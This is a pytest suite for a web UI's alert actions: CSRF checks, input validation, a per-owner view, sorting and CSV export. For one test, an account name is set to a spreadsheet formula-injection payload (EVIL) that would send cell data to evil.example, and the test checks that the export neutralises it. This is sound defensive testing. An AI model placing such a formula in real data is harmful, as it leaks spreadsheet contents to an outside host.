"""Acting in the pages: snooze, close with an outcome, assign and annotate an open alert with
the session's CSRF token; tables sorted by any column; the current view exported as CSV
with formula cells neutralised; a CSM acts only on their book.

The /ui app in-process (mounted at /ui as the service mounts it) over a copy of the web
pages' project (real workspace, real champions from its sqlite MLflow store, real users
with argon2 passwords in the access database), so what a form writes is read back with
the same functions `radar alerts list` uses.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from datetime import timedelta
from html import unescape
from types import SimpleNamespace

import duckdb
import pytest

from radar.settings import load_settings
from serving.scoring.champions import load_champions
from serving.scoring.portfolio import Portfolio
from serving.web.access import access_path
from serving.web.app import web_app
from serving.web.users import add_user
from serving.workflow.alert_state import notes_of
from serving.workflow.alerts import alert_states

pytestmark = pytest.mark.filterwarnings("ignore:Using `httpx` with `starlette.testclient` is deprecated")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PASSWORD = "correct horse battery"
CSRF = re.compile(r'name="csrf" value="([^"]+)"')
ALERT_ROW = re.compile(r'<tr class="tier-[a-z]+" data-account="([^"]+)" data-owner="([^"]*)"[^>]*data-routing=')
KEYS = re.compile(r'<details class="act" data-key="([^"]+)"')


@pytest.fixture(scope="module")
def project(ui_project, tmp_path_factory):
    """A copy of the web pages' project (its alerts are changed here), one account renamed to a
    formula, a leader and a CSM (owner Ben)."""
    source, _ = ui_project
    root = tmp_path_factory.mktemp("ui-actions")
    shutil.copytree(source / "out", root / "out")
    (root / "radar.toml").write_text(
        (source / "radar.toml").read_text().replace(str(source / "out"), str(root / "out"))
    )
    settings = load_settings(root / "radar.toml")
    with duckdb.connect(str(settings.database_path)) as con:
        victim = con.execute("SELECT min(account_id) FROM snapshots").fetchone()[0]
        con.execute("UPDATE snapshots SET name = ? WHERE account_id = ?", [EVIL, victim])
    add_user(access_path(settings), "lea", "leader", PASSWORD)
    add_user(access_path(settings), "ben", "csm", PASSWORD, owner="Ben")
    return root, settings, victim


@pytest.fixture(scope="module")
def service(project):
    _, settings, _ = project
    models = load_champions(settings)
    portfolio = Portfolio(settings, models)
    assert portfolio.load() is None
    return SimpleNamespace(settings=settings, models=models, portfolio=portfolio)


def _client(service, name: str | None):
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    outer = FastAPI()
    outer.mount("/ui", web_app(lambda: service))
    client = TestClient(outer, base_url="http://127.0.0.1")
    if name is not None:
        form = client.get("/ui/login")
        assert form.status_code == 200 and 'id="password"' in form.text
        signed = client.post(
            "/ui/login", data={"name": name, "password": PASSWORD, "next": "/ui/"}, follow_redirects=False
        )
        assert signed.status_code == 303, signed.text[:300]
    return client


@pytest.fixture(scope="module")
def leader(service):
    return _client(service, "lea")


@pytest.fixture(scope="module")
def csm(service):
    return _client(service, "ben")


def _queue(client, query: str = "") -> tuple[str, list[str], str]:
    page = client.get(f"/ui/?tab=alerts{query}")
    assert page.status_code == 200, page.text[:300]
    found = CSRF.search(page.text)
    return page.text, [unescape(k) for k in KEYS.findall(page.text)], unescape(found.group(1)) if found else ""


def _act(client, token: str, key: str, action: str, **fields):
    data = {"csrf": token, "key": key, "action": action, "back": "/ui/?tab=alerts", **fields}
    return client.post("/ui/alerts/act", data=data, follow_redirects=False)


def _state(settings, key: str) -> dict:
    states = alert_states(settings)
    return states[states["key"] == key].iloc[0].to_dict()


def test_snooze_close_assign_and_note_write_the_alert_state_the_cli_reads(leader, project, service):
    _, settings, _ = project
    html, keys, token = _queue(leader)
    assert len(keys) >= 4 and token
    until = service.portfolio.as_of + timedelta(days=30)

    snoozed = _act(leader, token, keys[0], "snooze", until=str(until), note="renewal call next month")
    assert snoozed.status_code == 303 and snoozed.headers["location"] == "/ui/?tab=alerts"
    html, after, _ = _queue(leader)
    assert keys[0] not in after  # left the queue
    assert "snoozed until" in html and 'id="notice"' in html  # the notice, once
    assert 'id="notice"' not in _queue(leader)[0]
    state = _state(settings, keys[0])
    assert state["status"] == "snoozed" and str(state["snoozed_until"])[:10] == str(until)
    assert state["reason"] == "renewal call next month (by lea)"

    closed = _act(leader, token, keys[1], "close", outcome="meeting booked")
    assert closed.status_code == 303
    state = _state(settings, keys[1])
    assert state["status"] == "closed" and state["reason"] == "outcome: meeting booked (by lea)"
    assert keys[1] not in _queue(leader)[1]

    owners = sorted(service.portfolio.scored()["csm_owner"].dropna().unique())
    assigned = _act(leader, token, keys[2], "assign", assignee=owners[-1])
    assert assigned.status_code == 303
    state = _state(settings, keys[2])
    assert state["status"] == "open" and state["assignee"] == owners[-1]  # still in the queue, handed over
    assert keys[2] in _queue(leader)[1]

    noted = _act(leader, token, keys[3], "note", note="left a voicemail")
    assert noted.status_code == 303 and _state(settings, keys[3])["status"] == "open"
    with duckdb.connect(str(settings.database_path), read_only=True) as con:
        notes = notes_of(con, keys[:4])
        history = con.execute("SELECT key, status, reason FROM alert_history WHERE reason LIKE '%lea%'").df()
    assert {(k, kind) for k, kind in zip(notes["key"], notes["kind"])} == {
        (keys[0], "snooze"),
        (keys[1], "outcome"),
        (keys[3], "note"),
    }
    assert set(history["key"]) == set(keys[:4])


def test_forms_need_this_sessions_csrf_token(leader, csm, project):
    _, settings, _ = project
    _, keys, token = _queue(leader)
    _, _, other = _queue(csm)
    assert token and other and token != other  # one token per session
    for given in ("", "forged", other):
        refused = _act(leader, given, keys[0], "note", note="should not be kept")
        assert refused.status_code == 403 and "reload the page" in refused.text
    bare = leader.post("/ui/alerts/act", data={"key": keys[0], "action": "note", "note": "x"}, follow_redirects=False)
    assert bare.status_code == 403
    with duckdb.connect(str(settings.database_path), read_only=True) as con:
        assert "should not be kept" not in set(notes_of(con)["note"])


def test_bad_forms_answer_400_and_change_nothing(leader, project, service):
    _, settings, _ = project
    _, keys, token = _queue(leader)
    key, before = keys[-1], _state(settings, keys[-1])
    as_of = service.portfolio.as_of
    for action, fields, words in (
        ("snooze", {"until": str(as_of)}, "after the portfolio's date"),
        ("snooze", {"until": "next week"}, "YYYY-MM-DD"),
        ("close", {"outcome": "won the lottery"}, "needs its outcome"),
        ("assign", {"assignee": "Nobody Here"}, "not an owner"),
        ("note", {"note": "   "}, "note is empty"),
        ("delete", {}, "Unknown action"),
    ):
        answer = _act(leader, token, key, action, **fields)
        assert answer.status_code == 400 and words in unescape(answer.text), (action, answer.text[-800:])
    gone = _act(leader, token, "no:such:alert", "note", note="x")
    assert gone.status_code == 404
    assert _state(settings, key) == before


def test_a_csm_acts_on_and_exports_only_their_book(csm, leader, service):
    scored = service.portfolio.scored()
    html, keys, token = _queue(csm)
    owners = {o for _, o in ALERT_ROW.findall(html)}
    assert keys and owners == {"Ben"}
    _, all_keys, _ = _queue(leader)
    owner_of = scored.set_index("account_id")["csm_owner"]
    theirs = [k for k in all_keys if k not in keys]
    assert theirs
    refused = _act(csm, token, theirs[0], "note", note="not my account")
    assert refused.status_code == 404
    exported = csm.get("/ui/export.csv?tab=risk")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows and {r["csm_owner"] for r in rows} == {"Ben"}
    assert len(rows) == int((owner_of == "Ben").sum())


def test_tables_sort_by_any_column_and_the_export_is_the_current_view(leader, service):
    from serving.web.pages import SORTS

    page_size = service.settings.ui.page_size
    for tab, keys in SORTS.items():
        for key in keys:
            for direction in ("asc", "desc"):
                query = f"tab={tab}&sort={key}&dir={direction}"
                exported = leader.get(f"/ui/export.csv?{query}")
                assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
                rows = list(csv.DictReader(io.StringIO(exported.text)))
                column = {"name": "name", "tier": "tier"}.get(key, key)
                if column in rows[0] if rows else False:
                    values = [r[column] for r in rows if r[column] != ""]
                    if key == "tier":
                        values = [{"red": 0, "yellow": 1, "green": 2}[v] for v in values]
                    elif key in (
                        "churn_risk",
                        "mrr",
                        "mrr_at_risk",
                        "health",
                        "upsell",
                        "expansion_potential",
                        "insight",
                    ):
                        values = [float(v) for v in values]
                    else:
                        values = [v.lstrip("'").casefold() for v in values]
                    assert values == sorted(values, reverse=direction == "desc"), (tab, key, direction)
                page = leader.get(f"/ui/?{query}")
                assert page.status_code == 200
                shown = re.findall(r'data-account="([^"]+)"', page.text)
                assert [unescape(a) for a in shown] == [r["account_id"] for r in rows][:page_size], (tab, key)
                if rows:
                    assert f'aria-sort="{"descending" if direction == "desc" else "ascending"}"' in page.text


def test_export_neutralises_cells_a_spreadsheet_would_run(leader, project):
    _, _, victim = project
    exported = leader.get("/ui/export.csv?sort=name&dir=asc&q=" + victim)
    assert exported.status_code == 200
    assert "attachment" in exported.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["account_id"] for r in rows] == [victim]
    assert rows[0]["name"] == "'" + EVIL
    assert "\n=" not in exported.text and ",=" not in exported.text
